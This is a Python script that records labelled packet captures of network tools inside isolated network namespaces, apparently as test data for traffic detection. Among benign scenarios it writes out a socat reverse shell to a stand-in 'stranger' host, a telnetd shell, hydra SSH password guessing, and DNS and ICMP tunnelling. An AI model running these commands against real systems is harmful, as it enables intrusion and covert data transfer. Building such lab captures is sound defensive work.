"""Records one capture per tool: `sudo python -m captures.recorded.with_tools [SCENARIO...]`, from the top folder of the repository. Takes minutes.

It installs nothing. Besides Linux with network namespaces it needs these Debian packages (a daemon that the package starts is not used):
busybox chrony curl dns2tcp dnsmasq-base dropbear-bin hydra inetutils-telnetd iodine iproute2 iputils-ping knot-dnsutils miniupnpc miniupnpd
miniupnpd-nftables mosquitto mosquitto-clients natpmpc ndisc6 nftables nginx-light nmap openssh-client openssh-server openvpn ptunnel-ng socat
telnet tor tshark wireguard-go wireguard-tools; and the project's `test` extra.

A device and a phone in the home, the router and the internet are four network namespaces that are made here and removed at the end; they have wires
to each other and to nothing else. What dumpcap sees on the device's interface is kept as `record.py` keeps it: checksums that were left to the
virtual network card are filled in, and the clock is set. Addresses are those for documentation (RFC 5737, RFC 3849), names those of RFC 2606.
Every run gives other packets of the same kind. A function below that is in SCENARIOS is a capture; `_v6` is its twin.
"""

from __future__ import annotations

import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

from captures.recorded._session import (
    DEVICE,
    INTERNET,
    NUMBERS,
    PHONE,
    ROUTER,
    SECRET,
    SPACES,
    TUNNEL_DOMAINS,
    Session,
    at,
    at_home,
    give,
    lay_wires,
    open_home,
    run,
    within,
    within_home,
)
from captures.recorded.record import SESSION_BEGIN_S, keep

HERE = Path(__file__).parent
LARGEST_BYTES = 300_000


def recorded(name: str, version: int, folder: Path) -> None:
    """Records one scenario."""
    session = Session(folder)
    prepare, act = SCENARIOS[name][0](session, version)
    whole = folder / "whole.pcap"
    try:
        lay_wires()
        open_home(session)
        prepare()
        session.start(DEVICE, "dumpcap", "-q", "-P", "-i", "eth0", "-w", str(whole), wait_s=1.5)
        session.do(DEVICE, "busybox", "udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true")
        session.do(DEVICE, *(("rdisc6", "-1", "eth0") if version == 6 else ("true",)), fails=True)
        act()
        time.sleep(1)
    finally:
        session.end()
        for space in SPACES:
            run("ip", "netns", "del", space, check=False)
    target = HERE / f"{name}{'_v6' if version == 6 else ''}.pcap"
    keep(whole.read_bytes(), target)
    if target.stat().st_size > LARGEST_BYTES:
        raise SystemExit(f"{target.name} is larger than {LARGEST_BYTES} bytes")


Steps = tuple[Callable[[], None], Callable[[], None]]
"""What must stand before anything is recorded, and what is recorded."""


def nothing() -> None:
    """No server is needed."""


def iodine(session: Session, version: int) -> Steps:
    """iodine carries 12 kB there and back through the resolver of the home."""
    return _iodine(session, within_home(version))


def iodine_direct(session: Session, version: int) -> Steps:
    """iodine carries 12 kB there and back, and asks its own server."""
    return _iodine(session, at("names", version))


def _iodine(session: Session, resolver: str) -> Steps:
    def prepare() -> None:
        words = ("-f", "-c", "-P", SECRET, "-l", at("names", 4), "-p", TUNNEL_DOMAINS["t.example.org"], "10.9.0.1", "t.example.org")
        session.start(INTERNET, "iodined", *words, wait_s=1.5)
        session.echo(INTERNET, "10.9.0.1", 9000)

    def act() -> None:
        session.start(DEVICE, "iodine", "-f", "-r", "-P", SECRET, *(("-6",) if ":" in resolver else ()), resolver, "t.example.org", wait_s=8)
        session.exchange("TCP4:10.9.0.1:9000", 12_000)
        time.sleep(2)

    return prepare, act


def dns2tcp(session: Session, version: int) -> Steps:
    """dns2tcp carries 12 kB there and back through the resolver of the home."""
    settings = f"listen = {at('names', 4)}\nport = 5454\nuser = nobody\nchroot = /tmp\ndomain = d.example.org\nresources = echo:127.0.0.1:9000\n"

    def prepare() -> None:
        session.echo(INTERNET, "127.0.0.1", 9000)
        session.start(INTERNET, "dns2tcpd", "-F", "-f", session.write("dns2tcpd.conf", settings))

    def act() -> None:
        session.start(
            DEVICE,
            "dns2tcpc",
            "-z",
            "d.example.org",
            "-r",
            "echo",
            "-l",
            "9000",
            "-f",
            session.write("dns2tcpc.conf", ""),
            within_home(version),
            wait_s=1.5,
        )
        session.exchange("TCP4:127.0.0.1:9000", 12_000)

    return prepare, act


def ptunnel(session: Session, version: int) -> Steps:
    """ptunnel-ng carries 20 kB there and back in echo messages."""

    def prepare() -> None:
        session.echo(INTERNET, "127.0.0.1", 9000)
        session.start(INTERNET, "ptunnel-ng", "-r127.0.0.1", "-R9000", "-v1")

    def act() -> None:
        session.start(DEVICE, "ptunnel-ng", f"-p{at('peer', version)}", "-l9000", "-r127.0.0.1", "-R9000", wait_s=1.5)
        session.exchange("TCP4:127.0.0.1:9000", 20_000)

    return prepare, act


def ping(session: Session, version: int) -> Steps:
    """ping, small and large, to the router and to a server."""

    def act() -> None:
        for target in (within_home(version), "www.example.com"):
            session.do(DEVICE, "ping", f"-{version}", "-c", "20", "-i", "0.2", target)
        session.do(DEVICE, "ping", f"-{version}", "-c", "10", "-i", "0.2", "-s", "1000", at("server", version))

    return nothing, act


COMMANDS = ("id\n", "cat /proc/version\n", "ls -la /proc/self\n", "head -c 2000 /proc/cpuinfo\n", "exit\n")


def telnet_shell(session: Session, version: int) -> Steps:
    """A stranger gets a shell from inetutils-telnetd on the device."""

    def prepare() -> None:
        session.start(DEVICE, "socat", f"TCP{version}-LISTEN:23,reuseaddr", "EXEC:telnetd -h -E /bin/sh,nofork")

    def act() -> None:
        source = ("-b", at("stranger", version))
        session.do(INTERNET, "telnet", *source, at_home(DEVICE, version), typed=("", *COMMANDS), fails=True, limit_s=6)

    return prepare, act


def dropbear_shell(session: Session, version: int) -> Steps:
    """A stranger logs in at dropbear on the device."""

    def prepare() -> None:
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", f"{session.folder}/key")
        session.write("root/.ssh/authorized_keys", (session.folder / "key.pub").read_text())
        for folder in (session.folder / "root", session.folder / "root" / ".ssh"):
            folder.chmod(0o700)
        run("dropbearkey", "-t", "ed25519", "-f", f"{session.folder}/host")
        daemon = f"exec dropbear -F -E -p 22 -P {session.folder}/pid -r {session.folder}/host"
        session.start(DEVICE, "sh", "-c", f"mount --bind {session.folder}/root /root && {daemon}")

    def act() -> None:
        session.do(INTERNET, *ssh(session, "-tt", "-b", at("stranger", version), f"root@{at_home(DEVICE, version)}"), typed=COMMANDS)

    return prepare, act


def reverse_shell(session: Session, version: int) -> Steps:
    """The device gives a stranger a shell, with socat."""
    stranger = within(at("stranger", version))

    def act() -> None:
        session.start(DEVICE, "sh", "-c", f"sleep 1; exec socat TCP:{stranger}:4444 EXEC:/bin/sh,stderr", wait_s=0)
        session.do(INTERNET, "socat", "-t2", "-", f"TCP{version}-LISTEN:4444,bind={stranger},reuseaddr", typed=("", "", "", *COMMANDS))

    return nothing, act


GATEWAY = """\
ext_ifname=wan
ext_ip=11.12.13.14
listening_ip=lan
enable_natpmp=yes
enable_upnp=yes
secure_mode=yes
uuid=00000000-0000-4000-8000-000000000001
lease_file={folder}/upnp
"""
"""miniupnpd opens nothing behind an outer address that is for documentation; this one only stands in its answer."""
GATEWAY_RULES = (
    "table inet filter { chain forward { type filter hook forward priority 0; policy accept; }; chain miniupnpd { };"
    " chain prerouting_miniupnpd { }; chain postrouting_miniupnpd { }; }"
)


def gateway(session: Session) -> None:
    session.do(ROUTER, "nft", GATEWAY_RULES)
    settings = session.write("miniupnpd.conf", GATEWAY.format(folder=session.folder))
    session.start(ROUTER, "miniupnpd", "-d", "-f", settings, "-P", f"{session.folder}/upnp.pid", wait_s=1.5)


def port_mapping(session: Session, _version: int) -> Steps:
    """upnpc has miniupnpd open port 8554 to the device for an hour, and looks at what is open."""

    def act() -> None:
        session.do(DEVICE, "upnpc", "-m", "eth0", "-e", "camera", "-a", "192.168.1.20", "554", "8554", "TCP", "3600")
        session.do(DEVICE, "upnpc", "-m", "eth0", "-l", fails=True)

    return lambda: gateway(session), act


def port_mapping_pmp(session: Session, _version: int) -> Steps:
    """natpmpc has miniupnpd open port 8554 to the device for an hour."""
    return lambda: gateway(session), lambda: session.do(DEVICE, "natpmpc", "-g", "192.168.1.1", "-a", "8554", "554", "tcp", "3600")


def port_status(session: Session, _version: int) -> Steps:
    """upnpc asks miniupnpd how it is, and has nothing opened."""
    return lambda: gateway(session), lambda: session.do(DEVICE, "upnpc", "-m", "eth0", "-s")


def lan_sweep(session: Session, version: int) -> Steps:
    """nmap goes through the home: who is there, and which ports they have open."""
    network = "192.168.1.0/24" if version == 4 else "fd00:20::/121"
    hosts = [f"192.168.1.{NUMBERS[space]}" if version == 4 else f"fd00:20::{NUMBERS[space]}" for space in (ROUTER, PHONE)]

    def act() -> None:
        family = ("-6",) if version == 6 else ()
        session.do(DEVICE, "nmap", *family, "-n", "-sn", "-T4", network)
        session.do(DEVICE, "nmap", *family, "-n", "-T4", "-F", *hosts)

    return nothing, act


SSHD = """\
Port 22
HostKey {folder}/key
AuthorizedKeysFile {folder}/key.pub
GatewayPorts clientspecified
UsePAM no
PidFile none
PermitRootLogin prohibit-password
MaxStartups 100
StrictModes no
"""


def sshd(session: Session) -> None:
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", f"{session.folder}/key")
    Path("/run/sshd").mkdir(exist_ok=True)
    session.start(INTERNET, "/usr/sbin/sshd", "-D", "-e", "-f", session.write("sshd", SSHD.format(folder=session.folder)))


def ssh(session: Session, *words: str) -> tuple[str, ...]:
    known = ("-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={session.folder}/known")
    return ("ssh", "-F", "none", *known, "-i", f"{session.folder}/key", *words)


def ssh_guessing(session: Session, version: int) -> Steps:
    """hydra on the device tries passwords at a stranger's sshd."""

    def act() -> None:
        people = session.write("people", "admin\nsupport\nuser\noperator\n")
        words = session.write("words", "".join(f"guess{number}\n" for number in range(10)))
        family = ("-6",) if version == 6 else ()
        session.do(DEVICE, "hydra", *family, "-I", "-t", "4", "-L", people, "-P", words, f"ssh://{within(at('stranger', version))}", fails=True)

    return lambda: sshd(session), act


def ssh_forward(session: Session, version: int) -> Steps:
    """ssh on the device opens a port at a stranger's sshd that leads back into the device; 64 kB go there and back."""
    stranger = at("stranger", version)

    def prepare() -> None:
        sshd(session)
        session.echo(DEVICE, "127.0.0.1", 9000)

    def act() -> None:
        session.start(DEVICE, *ssh(session, "-N", "-R", f"{within(stranger)}:2222:127.0.0.1:9000", f"root@{stranger}"), wait_s=2)
        for _ in range(4):
            session.exchange(f"TCP:{within(stranger)}:2222", 16_000, INTERNET)

    return prepare, act


def ssh_upload(session: Session, version: int) -> Steps:
    """ssh on the device hands a file of 20 kB to a server."""
    command = f"ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile={session.folder}/known -i {session.folder}/key"
    whole = f"{command} -{version} root@www.example.com 'cat > {session.folder}/kept' < {session.noise(20_000)}"
    return lambda: sshd(session), lambda: session.do(DEVICE, "sh", "-c", whole)


def mosquitto(session: Session, settings: str) -> None:
    session.start(INTERNET, "mosquitto", "-c", session.write("mosquitto.conf", f"user root\npersistence false\n{settings}"), wait_s=1)


def publish(session: Session, version: int, *words: str) -> None:
    for number in range(4):
        said = ("-t", "home/camera/state", "-m", f'{{"motion": {number % 2}, "lux": {300 + number}}}')
        session.do(DEVICE, "mosquitto_pub", "-h", "mqtt.example.com", *words, "-i", f"camera-{version}", *said)
        time.sleep(0.5)


def mqtt_password(session: Session, version: int) -> Steps:
    """mosquitto_pub logs in and publishes over plain TCP."""

    def prepare() -> None:
        run("mosquitto_passwd", "-c", "-b", f"{session.folder}/passwords", "camera", SECRET)
        address = at("server", version)
        mosquitto(session, f"listener 1883 {address}\nallow_anonymous false\npassword_file {session.folder}/passwords\n")

    return prepare, lambda: publish(session, version, "-p", "1883", "-u", "camera", "-P", SECRET)


def mqtt_anonymous(session: Session, version: int) -> Steps:
    """mosquitto_pub publishes over plain TCP, without a password."""
    return lambda: mosquitto(session, f"listener 1883 {at('server', version)}\nallow_anonymous true\n"), lambda: publish(
        session, version, "-p", "1883"
    )


def certified(session: Session, name: str) -> tuple[str, str]:
    """A certificate for `name` and its key: paths. Good when it is recorded and at the instant that the recording is given."""
    keys = [ec.generate_private_key(ec.SECP256R1()) for _ in range(2)]
    authority, leaf = (
        (x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, text)]), key) for text, key in zip(("Example Authority", name), keys, strict=True)
    )
    instants = sorted((datetime.now(UTC), datetime.fromtimestamp(SESSION_BEGIN_S, UTC)))
    for path, (subject, key), is_authority in (("authority.pem", authority, True), ("leaf.pem", leaf, False)):
        made = x509.CertificateBuilder().subject_name(subject).issuer_name(authority[0]).public_key(key.public_key())
        made = (
            made.serial_number(x509.random_serial_number())
            .not_valid_before(instants[0] - timedelta(days=5))
            .not_valid_after(instants[1] + timedelta(days=60))
        )
        made = made.add_extension(x509.BasicConstraints(is_authority, None), critical=True)
        made = made.add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False) if not is_authority else made
        session.write(path, made.sign(authority[1], SHA256()).public_bytes(Encoding.PEM).decode(), 0o644)
    written = leaf[1].private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()
    return f"{session.folder}/leaf.pem", session.write("leaf.key", written, 0o644)


def mqtt_tls(session: Session, version: int) -> Steps:
    """mosquitto_pub logs in and publishes over TLS."""

    def prepare() -> None:
        certificate, key = certified(session, "mqtt.example.com")
        mosquitto(session, f"listener 8883 {at('server', version)}\nallow_anonymous true\ncertfile {certificate}\nkeyfile {key}\n")

    words = ("-p", "8883", "--cafile", f"{session.folder}/authority.pem", "-u", "camera", "-P", SECRET)
    return prepare, lambda: publish(session, version, *words)


NGINX = """\
daemon off; worker_processes 1; pid {folder}/nginx.pid; error_log {folder}/nginx.log; user root;
events {{ }}
http {{
  access_log off; client_body_temp_path {folder}; proxy_temp_path {folder};
  fastcgi_temp_path {folder}; uwsgi_temp_path {folder}; scgi_temp_path {folder};
  server {{ listen {address}:80; root {folder}/www; }}
  server {{ listen {address}:443 ssl; ssl_certificate {certificate}; ssl_certificate_key {key}; root {folder}/www; }}
}}
"""


def nginx(session: Session, version: int) -> None:
    certificate, key = certified(session, "www.example.com")
    session.write("www/page.html", "<p>A page.</p>\n" * 400, 0o644)
    (session.folder / "www").chmod(0o755)
    filled = NGINX.format(folder=session.folder, address=within(at("server", version)), certificate=certificate, key=key)
    session.start(INTERNET, "nginx", "-c", session.write("nginx.conf", filled), wait_s=1)


def web_tls(session: Session, version: int) -> Steps:
    """curl fetches from nginx over TLS."""

    def act() -> None:
        for _ in range(3):
            words = ("--cacert", f"{session.folder}/authority.pem", "https://www.example.com/page.html")
            session.do(DEVICE, "curl", "-sS", f"-{version}", "-o", f"{session.folder}/fetched", *words)

    return lambda: nginx(session, version), act


def basic_auth(session: Session, version: int) -> Steps:
    """curl sends a password to nginx in clear text."""
    words = ("curl", "-sS", f"-{version}", "-o", f"{session.folder}/fetched", "-u", f"camera:{SECRET}", "http://www.example.com/page.html")
    return lambda: nginx(session, version), lambda: session.do(DEVICE, *words)


def wireguard(session: Session, version: int) -> Steps:
    """wireguard-go carries 40 kB there and back."""
    keys = {space: subprocess.check_output(("wg", "genkey"), text=True).strip() for space in (DEVICE, INTERNET)}
    public = {space: subprocess.check_output(("wg", "pubkey"), input=key, text=True).strip() for space, key in keys.items()}

    def up(space: str, number: int, *peer: str) -> None:
        session.start(space, "wireguard-go", "-f", f"wgt{number}", wait_s=1.5)
        path = session.write(f"wg{number}.key", keys[space])
        session.do(space, "wg", "set", f"wgt{number}", "private-key", path, "listen-port", "51820", "peer", *peer, "allowed-ips", "10.8.0.0/24")
        give(space, f"wgt{number}", f"10.8.0.{number}/24")
        run("ip", "-n", space, "link", "set", f"wgt{number}", "up")

    def prepare() -> None:
        up(INTERNET, 1, public[DEVICE])
        session.echo(INTERNET, "10.8.0.1", 9000)

    def act() -> None:
        peer = within(at("peer", version))
        up(DEVICE, 2, public[INTERNET], "endpoint", f"{peer}:51820", "persistent-keepalive", "25")
        session.exchange("TCP4:10.8.0.1:9000", 40_000)

    return prepare, act


def openvpn(session: Session, version: int) -> Steps:
    """openvpn carries 40 kB there and back over UDP."""
    common = ("openvpn", "--dev", "tun", "--verb", "3", "--cipher", "AES-256-GCM", "--ca", f"{session.folder}/authority.pem")
    pair = ("--cert", f"{session.folder}/leaf.pem", "--key", f"{session.folder}/leaf.key")

    def prepare() -> None:
        certified(session, "vpn.example.net")
        words = ("--tls-server", "--dh", "none", "--ifconfig", "10.7.0.1", "10.7.0.2", "--local", at("peer", version), "--proto", f"udp{version}")
        session.start(INTERNET, *common, *pair, *words, "--port", "1194", wait_s=1.5)

    def act() -> None:
        words = ("--tls-client", "--ifconfig", "10.7.0.2", "10.7.0.1", "--remote", "vpn.example.net", "1194", f"udp{version}", "--nobind")
        session.start(DEVICE, *common, *pair, *words, wait_s=5)
        session.echo(INTERNET, "10.7.0.1", 9000)
        session.exchange("TCP4:10.7.0.1:9000", 40_000)

    return prepare, act


def tor_bridge(session: Session, version: int) -> Steps:
    """tor on the device links to a bridge. There is no Tor network behind it, so the link is all that there is."""
    bridge = f"{within(at('peer', version))}:9001"

    def tor(space: str, *words: str, wait_s: float) -> None:
        folder = session.folder / f"tor-{space}"
        folder.mkdir(mode=0o700)
        empty = session.write("torrc", "")
        common = ("tor", "-f", empty, "--defaults-torrc", empty, "--DataDirectory", str(folder), "--Log", "notice stdout")
        session.start(space, *common, *words, wait_s=wait_s)

    def prepare() -> None:
        relay = ("--ORPort", bridge, "--SocksPort", "0", "--BridgeRelay", "1", "--PublishServerDescriptor", "0", "--AssumeReachable", "1")
        tor(INTERNET, *relay, "--Address", at("peer", version), "--ExitRelay", "0", wait_s=4)

    def act() -> None:
        tor(DEVICE, "--SocksPort", "9050", "--UseBridges", "1", "--Bridge", bridge, "--ClientUseIPv6", "1", wait_s=12)

    return prepare, act


def ntp(session: Session, version: int) -> Steps:
    """chronyd asks the time, and sets nothing."""

    def prepare() -> None:
        settings = session.write(
            "chrony.conf", f"local stratum 3\nallow\nbindaddress {at('time', version)}\ncmdport 0\npidfile {session.folder}/chrony.pid\n"
        )
        session.start(INTERNET, "chronyd", "-x", "-d", "-u", "root", "-f", settings, wait_s=2)

    def act() -> None:
        settings = session.write("client.conf", f"server time.example.org iburst\ncmdport 0\npidfile {session.folder}/client.pid\n")
        session.do(DEVICE, "chronyd", f"-{version}", "-Q", "-u", "root", "-f", settings, "-t", "15", fails=True)

    return prepare, act


def dns_over_tls(session: Session, version: int) -> Steps:
    """kdig asks a resolver of its own over TLS."""

    def prepare() -> None:
        certificate, key = certified(session, "dns.example.net")
        listener = f"OPENSSL-LISTEN:853,pf=ip{version},bind={within(at('names', version))},cert={certificate},key={key},verify=0,fork,reuseaddr"
        session.start(INTERNET, "socat", listener, "TCP4:127.0.0.1:53")

    def act() -> None:
        for name in ("www.example.com", "mqtt.example.com", "time.example.org"):
            session.do(DEVICE, "kdig", "+tls", "+tls-sni=dns.example.net", f"@{at('names', version)}", name, "A" if version == 4 else "AAAA")

    return prepare, act


BOTH, IPV4_ONLY = (4, 6), (4,)
SCENARIOS: dict[str, tuple[Callable[[Session, int], Steps], tuple[int, ...]]] = {
    "iodine": (iodine, BOTH),
    "iodine_direct": (iodine_direct, BOTH),
    "dns2tcp": (dns2tcp, IPV4_ONLY),
    "ptunnel": (ptunnel, IPV4_ONLY),
    "ping": (ping, BOTH),
    "telnet_shell": (telnet_shell, BOTH),
    "dropbear_shell": (dropbear_shell, BOTH),
    "reverse_shell": (reverse_shell, BOTH),
    "port_mapping": (port_mapping, IPV4_ONLY),
    "port_mapping_pmp": (port_mapping_pmp, IPV4_ONLY),
    "port_status": (port_status, IPV4_ONLY),
    "lan_sweep": (lan_sweep, BOTH),
    "ssh_guessing": (ssh_guessing, BOTH),
    "ssh_forward": (ssh_forward, BOTH),
    "ssh_upload": (ssh_upload, BOTH),
    "mqtt_password": (mqtt_password, BOTH),
    "mqtt_anonymous": (mqtt_anonymous, BOTH),
    "mqtt_tls": (mqtt_tls, BOTH),
    "web_tls": (web_tls, BOTH),
    "basic_auth": (basic_auth, BOTH),
    "wireguard": (wireguard, BOTH),
    "openvpn": (openvpn, BOTH),
    "tor_bridge": (tor_bridge, BOTH),
    "ntp": (ntp, BOTH),
    "dns_over_tls": (dns_over_tls, BOTH),
}
"""Each capture's function, and the versions of IP that its tool can use."""


def main() -> None:
    resolver = Path("/etc/netns") / DEVICE / "resolv.conf"
    try:
        resolver.parent.mkdir(parents=True)
        for name in sys.argv[1:] or SCENARIOS:
            for version in SCENARIOS[name][1]:
                resolver.write_text(f"nameserver {within_home(version)}\n")
                # dumpcap gives up its privileges and has to be able to write there.
                with tempfile.TemporaryDirectory() as folder:
                    Path(folder).chmod(0o777)
                    recorded(name, version, Path(folder))
                print(f"{name} over IPv{version}")
    finally:
        resolver.unlink(missing_ok=True)
        resolver.parent.rmdir()


if __name__ == "__main__":
    main()
